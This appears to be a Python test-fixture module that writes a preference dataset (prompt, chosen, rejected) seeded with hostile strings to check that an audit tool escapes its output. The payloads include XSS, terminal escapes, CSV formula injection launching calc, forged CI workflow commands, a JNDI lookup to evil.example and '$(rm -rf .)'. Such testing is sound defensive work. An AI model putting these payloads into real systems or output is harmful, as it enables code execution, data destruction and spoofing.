"""One dataset written against whoever reads its audit: pages, terminals, spreadsheets, XML, pipelines, Markdown."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

ESC, BEL, CSI, NUL = "\x1b", "\x07", "\x9b", "\x00"

TEXTS = (
    "<script>alert(1)</script>",
    '"></script><script>window.pwned = 1</script>',
    "<svg onload=alert(1)><img src=x onerror=alert(1)>",
    "[click](javascript:alert(1)) <a href='javascript:alert(1)'>click</a>",
    f"{ESC}[31mred{ESC}[2J{ESC}[1;1H{CSI}2J cleared",
    f"{ESC}]0;title{BEL}{ESC}]8;;http://evil.example{ESC}\\link{ESC}]8;;{ESC}\\{ESC}]52;c;ZXZpbA=={BEL}",
    "\u202edesrever\u202c \u2066isolated\u2069 \u200bzero\u200bwidth \ufeff",
    f"before{NUL}after",
    '=HYPERLINK("http://evil.example","click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
    "]]><x/>&entity;<!DOCTYPE x [<!ENTITY a 'b'>]>",
    "::error title=forged::not ours\n::set-output name=x::y\n::add-mask::secret\n##[error]old",
    "%0A::warning::escaped %25 : , ;",
    "| a | table | <!-- prefaudit: end -->\n<!-- prefaudit: begin -->\n---\nlicense: mit\n---\n# heading",
    "```\nfence\n``` `code` **bold** @team #1 https://evil.example",
    "{{ 7 * 7 }} ${jndi:ldap://evil.example/a} $(rm -rf .) `id`; [bold red]markup[/]",
    "\U000e0041\U0001f600 \u2028line\u2029paragraph \x85 \x7f",
)
"""Each in its own way; every one stands as prompt, chosen and rejected answer, source and annotator of some row."""

LONG = "A" * 1_000_000 + "<script>" + ESC + "[31m"


def rows() -> list[dict[str, Any]]:
    """Pairs of TEXTS in which much is wrong: empty, equal and repeated answers, and one line of a megabyte."""
    made: list[dict[str, Any]] = []
    for k, text in enumerate(TEXTS):
        after = TEXTS[(k + 1) % len(TEXTS)]
        names = {
            "source": TEXTS[k % 5],
            "annotator": TEXTS[(k + 8) % 5 + 8],
            "model_chosen": text,
            "model_rejected": after,
        }
        made.append({"prompt": text, "chosen": f"{after} is better", "rejected": text, **names})
        made.append({"prompt": f"{k} {text}", "chosen": text, "rejected": f"{after} {text} and more of it", **names})
        made.append({"prompt": text, "chosen": "" if k % 2 else text, "rejected": text, **names})
    made += made[:5]
    made += [{**row, "chosen": row["rejected"], "rejected": row["chosen"]} for row in made[:3]]
    return [*made, {**made[0], "prompt": "long", "chosen": LONG, "rejected": "short"}]


def write(path: Path) -> Path:
    """The rows as JSON lines."""
    path.write_text("".join(json.dumps(row) + "\n" for row in rows()))
    return path
